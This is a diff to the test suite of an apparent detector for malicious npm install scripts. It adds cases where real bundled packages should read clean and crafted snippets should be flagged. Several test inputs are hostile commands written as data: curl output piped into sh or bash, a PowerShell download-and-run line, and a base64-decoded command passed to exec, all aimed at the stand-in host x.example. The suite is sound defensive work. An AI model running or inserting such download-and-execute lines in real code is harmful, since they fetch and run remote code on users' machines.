@@ -54,6 +54,22 @@ describe("popular packages' real install scripts read clean", () => {
   });
 });
 
+describe("a bundled CLI's inlined package.json and a container's reachability probe read clean", () => {
+  // gitlab-ci-local 4.75.1's dist/index.js (fixtures/PROVENANCE.md): its package.json's `fetch-schema`
+  // script, and `curl -s -o /dev/null -w "%{http_code}"` waiting for a registry in a container.
+  test('gitlab-ci-local 4.75.1: neither is a download run', () => {
+    expect(flags(read('excerpts/gitlab-ci-local@4.75.1/index.js'))).toEqual([]);
+  });
+  test.each([
+    ['a probe whose line then pipes a download into a shell', "const cp = require('child_process');\ncp.execSync('curl -s -o /dev/null https://x.example && curl -s https://x.example/i.sh | sh')", ['download-exec']],
+    ['a download kept, not thrown away', "const cp = require('child_process');\ncp.execSync('curl -s -o /tmp/x.sh https://x.example/i.sh')", ['download-exec']],
+    ['a scripts object that is no package.json', "const cp = require('child_process');\nconst cfg = {version:\"1.0.0\",scripts:{go:\"curl -s https://x.example/i.sh | sh\"}};\ncp.execSync(cfg.scripts.go)", ['download-exec']],
+    ['an inlined package.json with a download script', "const cp = require('child_process');\nvar pkg={name:\"x\",version:\"1.0.0\",scripts:{schema:\"curl https://x.example/s.json -sf > s.json\"},devDependencies:{a:\"1.x\"}};\ncp.spawnSync(exe, ['--version']);", []],
+  ])('%s', (_name, code, expected) => {
+    expect(flags(code)).toEqual(expected);
+  });
+});
+
 describe("a bundled CLI's shell completion script held as text reads clean", () => {
   // yargs' completion templates, as create-qwik 1.20.1 bundles them beside child_process (fixtures/PROVENANCE.md).
   test('create-qwik 1.20.1: "# Installation: … >> ~/.bashrc" on comment lines is no write', () => {
@@ -339,6 +355,13 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['a command line joined on after curl', "require('child_process').execSync('curl ' + url + ' | sh')", ['download-exec']],
     ['curl named alone, then joined to its arguments', "const cp = require('child_process');\ncp.exec('curl' + ' -s ' + u)", ['download-exec']],
     ['curl given a name, the name started', "const { spawn } = require('child_process');\nconst bin = 'curl';\nspawn(bin, ['-o', 'x.sh', url]);", ['download-exec']],
+    // bun 1.4.5's install.js (fixtures/install-code/benign): the way to install it by hand, only shown.
+    ['a curl command line held by a name used only in an Error', "const cp = require('child_process');\nlet hint = win ? 'powershell -c \"irm x.example/i.ps1 | iex\"' : \"curl -fsSL https://x.example/install | bash\";\ncp.spawnSync(exe, ['--version']);\nthrow new Error(`install it with: ${hint}`);", []],
+    ['a curl command line written in a console line', "const cp = require('child_process');\ncp.spawnSync(exe, ['--version']);\nconsole.error('or run: curl -fsSL https://x.example/install | bash');", []],
+    ['the same name shown and run', "const cp = require('child_process');\nlet hint = \"curl -fsSL https://x.example/install | bash\";\nconsole.log(hint);\ncp.execSync(hint);", ['download-exec']],
+    ['the same name declared, never used', "const cp = require('child_process');\nconst cmd = 'curl -fsSL https://x.example/install | bash';\ncp.execSync(other);", ['download-exec']],
+    ['an Error made of the command line, its message run', "require('child_process').execSync(new Error('curl -fsSL https://x.example/i.sh | sh').message)", ['download-exec']],
+    ['a command line assigned by a statement of its own, then run', "const cp = require('child_process');\nlet cmd;\ncmd = 'curl -fsSL https://x.example/i.sh | sh';\nconsole.log(cmd);\ncp.execSync(cmd);", ['download-exec']],
     ['a RegExp exec and a message that names curl start no process', "const m = /v(\\d+)/.exec(s); if (!m) throw new Error('install curl or wget first'); console.log(os.hostname())", []],
     // A command line decoded and run as a process: GuardDog's npm-exec-base64 shape, as eval of decoded text.
     ['a decoded command line run', "require('child_process').exec(Buffer.from('ZWNobyBoaQ==', 'base64').toString())", ['decoded-eval']],
